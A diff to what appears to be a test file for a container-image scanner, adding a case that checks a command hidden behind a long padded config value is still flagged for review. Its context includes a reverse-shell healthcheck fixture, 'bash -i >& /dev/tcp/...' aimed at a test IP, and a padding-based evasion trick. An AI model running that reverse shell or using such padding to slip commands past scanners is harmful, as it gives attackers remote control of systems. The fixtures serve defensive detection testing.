@@ -105,6 +105,11 @@ CASES = {
     "digest_is_none": document(lambda: with_layer(digest="latest"), Verdict.NOT_SCANNED),
     "foreign": document(lambda: with_layer(urls=["https://layers.example.net/1.tar.gz"]), Verdict.REVIEW),
     "command": document(lambda: config(Entrypoint=["bash", "-c", RUN]), Verdict.REVIEW, "config.json"),
+    "command_behind_a_long_value": document(
+        lambda: b'{"author": "' + b"x" * 5_000 + b'", ' + config(Entrypoint=["bash", "-c", RUN])[1:],
+        Verdict.REVIEW,
+        "config.json",
+    ),
     "command_of_health": document(
         lambda: config(Healthcheck={"Test": ["CMD-SHELL", "bash -i >& /dev/tcp/192.0.2.1/9 0>&1"]}),
         Verdict.REVIEW,
